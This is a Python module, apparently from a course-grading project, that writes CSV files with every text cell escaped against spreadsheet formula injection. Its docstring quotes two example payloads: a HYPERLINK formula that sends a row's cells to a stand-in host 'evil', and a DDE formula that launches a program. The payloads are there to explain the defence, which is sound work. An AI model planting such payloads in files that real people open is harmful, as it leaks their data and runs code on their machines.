"""Every CSV this project writes (grades.csv, written/scores.csv, canvas.csv, canvas-unmatched.csv,
canvas-missing.csv, mistakes.csv, adjustments.csv's header) is written here, so that it is safe to open in a
spreadsheet. What the TAs type back (scores.csv, adjustments.csv) is read through safe_cell too, so a cell
compares equal whether their spreadsheet kept the ``'`` or not.

Students choose their file names and, in a Gradescope export, their names, SIDs and emails. A cell that
starts with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel, LibreOffice and Google Sheets, and they skip
whitespace and control characters before one: ``=HYPERLINK("http://evil/?"&E2&F2,"click")`` sends the row's
cells away when a TA clicks it, ``+1+cmd|' /C calc'!A0`` (DDE) starts a program. As OWASP
(https://owasp.org/www-community/attacks/CSV_Injection) and ASVS (5.0, V1.2.10) advise, such a text cell
gets a leading ``'``, which spreadsheets read as "this is text": a cell whose first character is a formula
character, in any of its Unicode forms (the fullwidth ``＝``, the small ``﹢``: whatever NFKC folds to one),
or is whitespace or a control, format or separator character (tab, carriage return, line feed, NUL, vertical
tab, no-break space, a zero-width space), whatever follows it. Every text cell also passes the text rule
(text.py): no control or invisible character reaches a file. Numbers are told apart by type, never by how
they read: a score the project computed is a float and is written as one (-1.5 stays -1.5), while the text
"-1.5" is escaped.

IDs that another system matches on (Canvas's ID columns) must never change, since the ``'`` would break
the match: callers check them with needs_escape() and leave out what fails (canvas.py) instead.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path

from ..inkernel.text import plain_text
from ..owned import write_private

Cell = str | int | float | None
FORMULA_STARTS = ("=", "+", "-", "@")  # and their other Unicode forms (NFKC), and any leading blank or control
FORMULA_WORDS = ("a formula character (=, +, -, @, or a fullwidth form of one), or whitespace or a control "
                 "character")  # what needs_escape() refuses, for messages
BOM = "\ufeff"  # spreadsheets then read the file as UTF-8 (names with accents)


def needs_escape(text: str) -> bool:
    """Whether a spreadsheet could read this text as a formula: its first character starts one, or is one a
    spreadsheet may skip before a formula (whitespace, a control, format or separator character)."""
    if not text:
        return False
    first = text[0]
    return (first.isspace() or unicodedata.category(first)[0] in "CZ"
            or unicodedata.normalize("NFKC", first)[:1] in FORMULA_STARTS)


def safe_cell(value: Cell) -> str:
    """The cell as written: numbers as numbers (floats as ``:g``, as the gradebook always showed them),
    None as empty, text with a leading ``'`` where a spreadsheet would read it as a formula.

    Idempotent (an escaped cell is left as it is), so a value read back from a sheet this wrote, or from
    one a spreadsheet saved without the ``'``, compares equal to the fresh value once both go through it."""
    if value is None:
        return ""
    if isinstance(value, float):
        return f"{value:g}"
    if isinstance(value, int) and not isinstance(value, bool):
        return str(value)
    text = plain_text(str(value))
    return "'" + text if needs_escape(text) else text


def write_csv(path: Path, header: Sequence[str], rows: Iterable[Sequence[Cell] | Mapping[str, Cell]]) -> None:
    """A CSV (UTF-8 with a BOM, written atomically, private to its owner) with every cell, the header's
    too, through safe_cell(); a row is a sequence of cells or a mapping read by the header's names."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(name) for name in header])
    for row in rows:
        cells = [row.get(name) for name in header] if isinstance(row, Mapping) else row
        writer.writerow([safe_cell(cell) for cell in cells])
    write_private(path, (BOM + buffer.getvalue()).encode())
